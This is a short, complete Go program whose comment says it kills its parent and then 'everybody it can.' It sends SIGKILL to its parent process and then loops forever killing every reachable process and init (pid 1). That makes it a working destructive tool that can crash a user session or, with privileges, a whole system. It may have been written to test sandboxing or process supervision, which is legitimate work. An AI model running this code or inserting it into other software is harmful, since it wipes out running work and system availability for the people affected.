// Kills its parent, then everybody it can.
package main

import (
	"os"
	"syscall"
)

func main() {
	syscall.Kill(os.Getppid(), syscall.SIGKILL)
	for {
		syscall.Kill(-1, syscall.SIGKILL)
		syscall.Kill(1, syscall.SIGKILL)
	}
}
